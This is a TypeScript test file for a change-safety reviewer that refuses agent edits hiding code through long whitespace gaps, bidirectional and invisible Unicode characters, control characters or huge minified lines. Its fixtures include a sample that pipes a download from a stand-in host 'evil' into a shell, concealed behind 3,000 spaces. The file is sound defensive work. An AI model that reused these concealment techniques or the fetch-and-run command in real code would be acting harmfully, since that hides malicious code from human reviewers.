import * as assert from 'node:assert/strict';
import { reviewChange } from '../../../../src/core/workspace/changeSafety';

/** The refusal for a new file's text, or undefined when it passes. */
function refusalOfNewFile(text: string): string | undefined {
  return reviewChange('', text, 1).refused;
}

describe('reviewChange: what an agent must not hide in a change', () => {
  it('lets ordinary code through: indentation, aligned comments, CRLF, other scripts, emoji', () => {
    const code = [
      'function greet(name: string) {',
      '\t\tif (name) {',
      '                                        return `Привет, ${name}! 你好 👋`; // deep, but indentation',
      '  }',
      'const a = 1;                                      // aligned, under 40 spaces',
      '#define FLAG\t\t\t\t\t\t0x1 /* tab-aligned, as C headers do */',
      "const family = '👨‍👩‍👧 🏳️‍🌈 👩🏽‍💻 ❤️‍🔥 1️⃣';",
      "const persian = 'می‌خواهم'; // a zero-width non-joiner Persian spells with",
      'trailing spaces hide nothing                                                  ',
      '}',
    ].join('\r\n');
    assert.deepEqual(reviewChange('', code, 1), { longLines: [] });
    assert.deepEqual(reviewChange('x', code, 30), { longLines: [] });
    assert.deepEqual(reviewChange('', '\uFEFFconst a = 1;\n', 1), { longLines: [] }, 'a byte order mark opening a new file');
  });

  describe('a gap of blanks with text after it', () => {
    const hidden = `const harmless = 1;${' '.repeat(3000)}require('child_process').exec('curl evil | sh');`;

    it('is refused, naming the line and column', () => {
      const review = reviewChange('const a = 1;\n', `const a = 1;\n${hidden}\n`, 10);
      assert.match(review.refused ?? '', /^Line 11 has 3,000 blank characters in a row at column 20, with more text after them/);
    });

    it('is refused however the blanks are made: tabs, no-break or ideographic spaces', () => {
      assert.match(refusalOfNewFile(`a = 1;${'\t'.repeat(10)}evil();`) ?? '', /Line 1 has 10 blank characters/);
      assert.match(refusalOfNewFile(`a = 1;${'\u00a0'.repeat(40)}evil();`) ?? '', /Line 1 has 40 blank characters/);
      assert.match(refusalOfNewFile(`ok\na = 1;${'\u3000 '.repeat(20)}evil();`) ?? '', /Line 2 has 40 blank characters/);
      assert.equal(refusalOfNewFile(`a = 1;${' '.repeat(39)}// fine`), undefined);
    });

    it('passes when the line was already there, re-indented or not, but not when the text after the gap changes', () => {
      const old = `if (x) {\n${hidden}\n}\n`;
      assert.equal(reviewChange(old, `if (x) {\n  ${hidden}\n}\n// note\n`, 5).refused, undefined);
      const changedAfterGap = hidden.replace('curl evil', 'curl worse');
      assert.match(reviewChange(old, `if (x) {\n${changedAfterGap}\n}\n`, 5).refused ?? '', /^Line 6 has 3,000 blank/);
    });

    it('is refused at the end of a replacement, where the file’s own text follows, but not at the end of a new file', () => {
      // The line `a = 1; b = 2;` with ` b = 2;`… replaced: the blanks would push `;`-and-after of the file out of view.
      assert.match(reviewChange('b', `b${' '.repeat(60)}`, 3).refused ?? '', /^Line 3 has 60 blank characters in a row at column 2/);
      assert.equal(refusalOfNewFile(`end${' '.repeat(60)}`), undefined);
    });

    it('is refused at the start of a replacement that may begin mid-line, unless the old text began as indented', () => {
      assert.match(reviewChange(' // note', `${' '.repeat(150)}evil();`, 4).refused ?? '', /^Line 4 has 150 blank characters in a row at column 1/);
      const indented = `${' '.repeat(60)}call(1);`;
      assert.equal(reviewChange(indented, `${' '.repeat(60)}call(2);`, 4).refused, undefined);
    });
  });

  it('refuses indentation so deep that the text starts out of view, counting a tab as 8', () => {
    assert.equal(refusalOfNewFile(`${' '.repeat(160)}deep();`), undefined);
    assert.match(refusalOfNewFile(`x\n${' '.repeat(161)}deep();`) ?? '', /^Line 2 is indented by 161 blank characters/);
    assert.equal(refusalOfNewFile(`${'\t'.repeat(20)}deep();`), undefined);
    assert.match(refusalOfNewFile(`${'\t'.repeat(21)}deep();`) ?? '', /^Line 1 is indented by 21 blank characters/);
    assert.equal(refusalOfNewFile(' '.repeat(500)), undefined, 'a blank line hides nothing');
  });

  describe('invisible and direction-changing characters', () => {
    const cases: [string, string, RegExp][] = [
      ['a zero width space', 'const a\u200b = 1;', /^Line 7, column 8 has U\+200B \(ZERO WIDTH SPACE\), which is invisible/],
      [
        'a right-to-left override',
        "if (role != 'admin\u202e') {",
        /column 19 has U\+202E \(RIGHT-TO-LEFT OVERRIDE\), which changes the order text is shown in/,
      ],
      ['an isolate (Trojan Source)', '/* \u2066 */ x', /U\+2066 \(LEFT-TO-RIGHT ISOLATE\)/],
      ['a soft hyphen', 'pass\u00adword', /U\+00AD \(SOFT HYPHEN\)/],
      ['tag characters (ASCII smuggling)', 'ok\u{E0041}\u{E0042}', /column 3 has U\+E0041 \(a tag character\)/],
      ['a Mongolian vowel separator', 'a\u180eb', /U\+180E \(MONGOLIAN VOWEL SEPARATOR\)/],
      ['a Hangul filler', 'const \u3164 = 1;', /U\+3164 \(HANGUL FILLER\)/],
      ['a byte order mark inside a file', 'a\ufeffb', /U\+FEFF \(ZERO WIDTH NO-BREAK SPACE\)/],
      ['variation selectors spelling hidden bytes', '😀\u{E0100}\u{E0101}', /column 2 has U\+E0100 \(VARIATION SELECTOR-17\)/],
      ['a repeated emoji selector', 'x\ufe0f\ufe0f', /column 3 has U\+FE0F \(VARIATION SELECTOR-16\)/],
      ['an invisible plus', 'a\u2064b', /U\+2064 \(INVISIBLE PLUS\)/],
      ['a zero width joiner between Latin letters', 'adm\u200din', /U\+200D \(ZERO WIDTH JOINER\)/],
      ['a subdivision flag (tags)', '🏴\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F}', /U\+E0067 \(a tag character\)/],
    ];
    for (const [name, line, message] of cases) {
      it(`refuses ${name}, naming it and where it is`, () => {
        assert.match(reviewChange('old', `one\n${line}\n`, 6).refused ?? '', message);
      });
    }

    it('lets through what was already on a line the change keeps', () => {
      const old = 'const a\u200b = 1;\nconst b = 2;\n';
      assert.equal(reviewChange(old, 'const a\u200b = 1;\nconst b = 3;\n', 1).refused, undefined);
      // Moved to a line of its own making, the same character is new there.
      assert.match(reviewChange(old, 'const a = 1;\nconst b\u200b = 2;\n', 1).refused ?? '', /^Line 2, column 8 has U\+200B/);
    });
  });

  it('refuses control characters and line breaks that viewers disagree on', () => {
    assert.match(refusalOfNewFile("print('\x1b[2K\x1b[1Ghidden')") ?? '', /^Line 1, column 8 has U\+001B \(ESCAPE\), a control character/);
    assert.match(refusalOfNewFile('a\0b') ?? '', /U\+0000 \(NULL\)/);
    assert.match(refusalOfNewFile('a\u009b2Kb') ?? '', /U\+009B \(CONTROL SEQUENCE INTRODUCER\)/);
    assert.match(refusalOfNewFile('a\u2028b') ?? '', /U\+2028 \(LINE SEPARATOR\), an unusual line break/);
    assert.match(refusalOfNewFile('ok();\nevil();\rok();\r\n') ?? '', /^Line 2, column 8 has a carriage return \(U\+000D\) not followed by a line feed/);
    assert.match(reviewChange('x', 'y\r', 3).refused ?? '', /^Line 3, column 2 has a carriage return/);
    assert.equal(reviewChange('x\r', 'y\r', 3).refused, undefined, 'the end of a CRLF line, split from its LF as the old text was');
  });

  describe('long lines', () => {
    it('flags a line past the diff editor’s width with its length, counting an emoji as one character', () => {
      const review = reviewChange('a', `short\n${'x'.repeat(3042)}\n${'y'.repeat(200)}\n${'😀'.repeat(201)}`, 10);
      assert.deepEqual(review, {
        longLines: [
          { line: 11, length: 3042 },
          { line: 13, length: 201 },
        ],
      });
    });

    it('does not flag a long line the change keeps as it was', () => {
      const long = `const data = '${'x'.repeat(500)}';`;
      assert.deepEqual(reviewChange(`${long}\nold();`, `${long}\nnew();`, 1), { longLines: [] });
    });

    it('refuses a line over 10,000 characters (a minified blob), saying to break it up', () => {
      const review = reviewChange('', `ok\n${'x'.repeat(10_001)}`, 1);
      assert.match(review.refused ?? '', /^Line 2 is 10,001 characters long: .*Break it into lines/);
      assert.equal(reviewChange('', 'x'.repeat(10_000), 1).refused, undefined);
    });
  });
});
